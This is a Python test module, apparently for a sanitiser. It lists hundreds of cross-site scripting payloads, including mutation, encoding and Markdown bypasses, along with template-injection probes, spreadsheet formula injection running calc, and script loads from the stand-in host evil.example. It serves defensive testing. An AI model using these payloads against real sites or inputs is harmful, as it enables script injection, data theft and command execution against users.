# ruff: noqa: E501, F541, Q000, Q003  one hostile text is best read as it is
r"""What somebody writes who wants a script to run where others read. Each calls ``__xss()``.

Elements carry the id ``xss``, requests go to evil.example: whoever finds one of them in a page, or
hears of one in a browser, has found a way in.
"""

CALL = "__xss()"
AWAY = "https://evil.example/xss"
IMAGE = f"<img id=xss src=x onerror={CALL}>"
SCRIPT = f"<script id=xss>{CALL}</script>"
SVG = f"<svg id=xss onload={CALL}>"
# Out of wherever the words were put.
OUT_OF = [
    '">', "'>", '" ">', "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "--!>",
    "]]>", "</option></select>", "</svg>", "</math>", "</noscript>", "</template>", "</iframe>",
    "</xmp>", "</noembed>", "</button></form>", "</a></td></table>", "?>", "%>", "*/",
]  # fmt: skip
ELEMENTS = [
    SCRIPT, IMAGE, SVG,
    f"<ScRiPt id=xss>{CALL}</sCrIpT>", f"<script id=xss src={AWAY}.js></script>",
    f"<script id=xss src=//evil.example/xss.js></script>", f"<script\x0cid=xss>{CALL}</script>",
    f"<script/id=xss>{CALL}</script\n>", f"<<script id=xss>{CALL}//<</script>",
    f"<scr<script>ipt id=xss>{CALL}</scr</script>ipt>", f"<script id=xss type=module>{CALL}</script>",
    f"<script id=xss>{CALL}", f"<img id=xss src=x onerror\n={CALL}>", f"<img/id=xss/src/onerror={CALL}>",
    f'<img id=xss src="x" ONERROR="{CALL}">', f"<img id=xss src=x onerror=&#95;&#95;xss&#40;&#41;>",
    f"<img id=xss src={AWAY}.png>", f"<img id=xss srcset={AWAY}.png>", f"<img id=xss src=x:x onerror={CALL}//",
    f"<image id=xss src=x onerror={CALL}>", f"<body id=xss onload={CALL}>", f"<body onpageshow={CALL} id=xss>",
    f"<input id=xss autofocus onfocus={CALL}>", f"<select id=xss autofocus onfocus={CALL}>",
    f"<textarea id=xss autofocus onfocus={CALL}>", f"<keygen id=xss autofocus onfocus={CALL}>",
    f"<details id=xss open ontoggle={CALL}>", f"<video id=xss><source onerror={CALL}></video>",
    f"<audio id=xss src=x onerror={CALL}>", f"<video id=xss poster={AWAY}.png></video>",
    f"<marquee id=xss onstart={CALL}>", f"<div id=xss style=animation-name:x onanimationstart={CALL}>",
    f"<style id=xss>@keyframes x{{}}*{{animation:x}}</style><p onanimationend={CALL}>",
    f"<style id=xss>@import '{AWAY}.css';</style>", f"<p id=xss style=\"background:url({AWAY}.png)\">",
    f"<link id=xss rel=stylesheet href={AWAY}.css>", f"<link id=xss rel=import href={AWAY}>",
    f"<link id=xss rel=prefetch href={AWAY}>", f"<base id=xss href={AWAY}/>",
    f"<meta id=xss http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta id=xss http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<iframe id=xss src=javascript:{CALL}></iframe>", f"<iframe id=xss srcdoc='<script>top.{CALL}</script>'></iframe>",
    f"<iframe id=xss src={AWAY}></iframe>", f"<frameset id=xss onload={CALL}>",
    f"<object id=xss data=javascript:{CALL}></object>", f"<object id=xss data={AWAY}></object>",
    f"<embed id=xss src=javascript:{CALL}>", f"<embed id=xss src={AWAY}.svg>", f"<applet id=xss code={AWAY}>",
    f"<portal id=xss src={AWAY}>", f"<form id=xss action={AWAY}><button>Sign in again</button></form>",
    f"<form id=xss action=javascript:{CALL}><input type=submit>", f"<button id=xss form=f formaction={AWAY}>x</button>",
    f"<a id=xss href=javascript:{CALL}>x</a>", f"<a id=xss href=' javascript:{CALL}'>x</a>",
    f"<a id=xss href=java&#115;cript:{CALL}>x</a>", f"<a id=xss href='java\tscript:{CALL}'>x</a>",
    f"<a id=xss href='&#1;javascript:{CALL}'>x</a>", f"<a id=xss href=javascript&colon;{CALL}>x</a>",
    f"<a id=xss href='data:text/html,<script>{CALL}</script>'>x</a>", f"<a id=xss href=vbscript:{CALL}>x</a>",
    f"<a id=xss href=x ping={AWAY}>x</a>", f"<area id=xss shape=default href=javascript:{CALL}>",
    f"<table id=xss background={AWAY}.png>", f"<td id=xss onmouseover={CALL}>", f"<isindex id=xss action=javascript:{CALL}>",
    f"<div id=xss contenteditable autofocus onfocus={CALL}>", f"<xss id=xss tabindex=1 autofocus onfocus={CALL}>",
    f"<x id=xss onclick={CALL} style='position:fixed;inset:0'>", f"<dialog id=xss open onclose={CALL}>",
    f"<p id=xss popover onbeforetoggle={CALL}>", f"<slot id=xss onslotchange={CALL}>", f"<template id=xss><img src=x onerror={CALL}></template>",
    f"<div id=xss><template shadowrootmode=open><img src=x onerror={CALL}></template></div>",
]  # fmt: skip
DRAWN = [
    f"<svg id=xss><script>{CALL}</script></svg>", f"<svg id=xss><a xlink:href=javascript:{CALL}><text y=9>x",
    f"<svg id=xss><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg id=xss><set onbegin={CALL} attributename=x>",
    f"<svg id=xss><animate xlink:href=#b attributeName=href values=javascript:{CALL} /><a id=b><text y=9>x",
    f"<svg id=xss><foreignObject><iframe srcdoc='<script>top.{CALL}</script>'>", f"<svg id=xss><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'>",
    f"<svg id=xss><image href={AWAY}.png onerror={CALL}>", f"<svg id=xss><style><img src=x onerror={CALL}></style>",
    f"<svg id=xss><title><img src=x onerror={CALL}></title>", f"<svg id=xss><desc><![CDATA[</desc>{IMAGE}]]>",
    f"<math id=xss><maction actiontype=statusline xlink:href=javascript:{CALL}>x", f"<math id=xss href=javascript:{CALL}>x</math>",
    f"<math id=xss><mi xlink:href=data:x,<script>{CALL}</script>>x", f"<math id=xss><annotation-xml encoding=text/html><img src=x onerror={CALL}>",
]  # fmt: skip
# What one parser reads otherwise than the next.
MUTATING = [
    f'<noscript><p title="</noscript>{IMAGE}">', f'<p title="{IMAGE}">', f"<!--><img id=xss src=x onerror={CALL}>-->", f"<!-- --!>{IMAGE}",
    f"<math><mtext><table><mglyph><style><!--</style><img id=xss src onerror={CALL}>",
    f"<math><mtext><table><mglyph><style><math><img id=xss src onerror={CALL}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img id=xss src onerror={CALL}>",
    f"<svg></p><style><a title=\"</style><img id=xss src onerror={CALL}>\">", f"<svg><p><style><!--</style><img id=xss src onerror={CALL}>-->",
    f"<table><td><style></table><img id=xss src=x onerror={CALL}></style>", f"<select><template><style></select><img id=xss src=x onerror={CALL}>",
    f"<xmp><p title=\"</xmp>{IMAGE}\">", f"<title><p title=\"</title>{IMAGE}\">", f"<listing>&lt;img id=xss src=x onerror={CALL}&gt;</listing>",
    f"<a href=\"`onmouseover={CALL} id=xss `\">x</a>", f"&lt;img id=xss src=x onerror={CALL}&gt;", f"&amp;lt;script id=xss&amp;gt;{CALL}",
    f"<img id=xss src=\"x` `<script>{CALL}</script>\"` `>", f"\ufeff{IMAGE}", f"\u2028{SCRIPT}\u2029", f"<\u0131mg id=xss src=x onerror={CALL}>",
    f"\uff1cscript id=xss\uff1e{CALL}\uff1c/script\uff1e", f"%3Cscript%20id=xss%3E{CALL}%3C/script%3E", f"+ADw-script id+AD0-xss+AD4-{CALL}",
    f"\\u003cimg id=xss src=x onerror={CALL}\\u003e", f"\\x3cimg id=xss src=x onerror={CALL}\\x3e",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{CALL})", f"[x](JaVaScRiPt:{CALL})", f"[x](java\nscript:{CALL})", f"[x](javascript&colon;{CALL})", f"[x](&#106;avascript:{CALL})",
    f"[x](\x01javascript:{CALL})", f"[x](data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+)", f"[x](vbscript:{CALL})", f"[x](file:///etc/passwd)",
    f"![x]({AWAY}.png)", f'![x](x"onerror="{CALL})', f"![x](javascript:{CALL})", f"<javascript:{CALL}>", f'[x](https://a.example "onmouseover={CALL} id=xss")',
    f'[x](https://a.example"onmouseover="{CALL})', f"[x]: javascript:{CALL}\n\n[x]", f"[{IMAGE}](https://a.example)", f"`{IMAGE}`", f"```html\n{IMAGE}\n```",
    f"```\"><img id=xss src=x onerror={CALL}>\nx\n```", f"|{IMAGE}|\n|-|\n|{SCRIPT}|", f"> {SCRIPT}", f"# {SVG}", f"- {IMAGE}", f"https://a.example/<img/id=xss/onerror={CALL}>",
    f"https://a.example/\"onmouseover=\"{CALL}", f"//evil.example/xss", f"[x](//evil.example/xss)", f"[x](/sign-in/logout/)", f"[x](\\\\evil.example\\xss)",
]  # fmt: skip
# What templates, spreadsheets and scripts of ours would make of it.
WORDS = [
    "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include 'base.html' %}", "{{ request.user.password }}", "{{''|safe}}" + IMAGE, "{%endblock%}" + IMAGE,
    "{{7*7}}${7*7}#{7*7}<%=7*7%>", "${" + CALL + "}", "{{ constructor.constructor('" + CALL + "')() }}", "</c-button>" + IMAGE, '<c-icon name="x" />', f"';{CALL};//", f'";{CALL};//',
    f"\\';{CALL};//", f"</script>{SCRIPT}", f'"}}</script>{SCRIPT}', f"'-{CALL}-'", f'"-{CALL}-"', f"`-{CALL}-`", "__proto__", "constructor", "javascript:" + CALL,
    f'x" autofocus onfocus="{CALL}" id="xss', f"x' autofocus onfocus='{CALL}' id='xss", f"x onmouseover={CALL} id=xss", f'" hx-get="{AWAY}" hx-trigger="load" id="xss',
    f'<p id=xss hx-get={AWAY} hx-trigger=load>', f'<p id=xss hx-on:load={CALL}>', f'<p id=xss data-hx-get={AWAY} data-hx-trigger=load>', f"=HYPERLINK(\"{AWAY}\")", "=cmd|'/c calc'!A1",
]  # fmt: skip
PAYLOADS = list(
    dict.fromkeys(
        [*ELEMENTS, *DRAWN, *MUTATING, *MARKDOWN, *WORDS]
        + [f"{out}{(IMAGE, SCRIPT, SVG)[place % 3]}" for place, out in enumerate(OUT_OF)]
    )
)
